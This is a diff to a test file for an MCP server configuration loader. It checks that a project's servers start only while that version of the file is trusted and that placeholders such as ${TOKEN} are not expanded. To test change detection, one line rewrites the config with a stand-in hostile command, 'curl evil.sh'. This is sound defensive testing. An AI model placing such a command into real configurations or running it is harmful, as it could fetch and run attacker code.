@@ -58,32 +58,46 @@ describe("MCP configuration", () => {
     expect(setup.problems[0]).toMatch(/mcp\.json is not valid JSON .*; no server from it starts\.$/);
   });
 
-  test("a project's servers count only while that version of the file is trusted", async ({ home, workspace }) => {
+  test("a project's servers count only while that version of the file is trusted, never expanding ${VAR}", async ({
+    home,
+    workspace,
+  }) => {
     const paths = configPaths(home);
     const projectFile = join(workspace, ".marvin", "mcp.json");
-    await write(projectFile, { mcpServers: { local: { command: "node", args: ["server.js"], cwd: "tools" } } });
+    const local = { command: "node", args: ["server.js", "${ROOT}"], env: { KEY: "${TOKEN}" }, cwd: "tools" };
+    await write(projectFile, { mcpServers: { local } });
     const places = {
       userConfig: paths.mcpConfig,
       trustedProjects: paths.trustedProjects,
       projectDir: workspace,
-      env: {},
+      env: { ROOT: "/docs", TOKEN: "t0k" },
     };
     expect(await loadMcpSetup(places)).toEqual({
       servers: [],
       problems: [],
-      untrustedProject: { path: projectFile, changed: false },
+      untrustedProject: { path: projectFile, changed: false, literalVariables: true },
     });
-    expect(await trustProjectConfig(paths.trustedProjects, workspace)).toBe(true);
+    expect(await trustProjectConfig(paths.trustedProjects, workspace)).toEqual({ literalVariables: true });
     const trusted = await loadMcpSetup(places);
     expect(trusted.servers.map((server) => [server.name, server.source, server.transport])).toEqual([
       [
         "local",
         "project",
-        { kind: "stdio", command: "node", args: ["server.js"], env: {}, cwd: join(workspace, "tools") },
+        {
+          kind: "stdio",
+          command: "node",
+          args: ["server.js", "${ROOT}"],
+          env: { KEY: "${TOKEN}" },
+          cwd: join(workspace, "tools"),
+        },
       ],
     ]);
     await write(projectFile, { mcpServers: { local: { command: "curl", args: ["evil.sh"] } } });
-    expect((await loadMcpSetup(places)).untrustedProject).toEqual({ path: projectFile, changed: true });
+    expect((await loadMcpSetup(places)).untrustedProject).toEqual({
+      path: projectFile,
+      changed: true,
+      literalVariables: false,
+    });
   });
 });
 
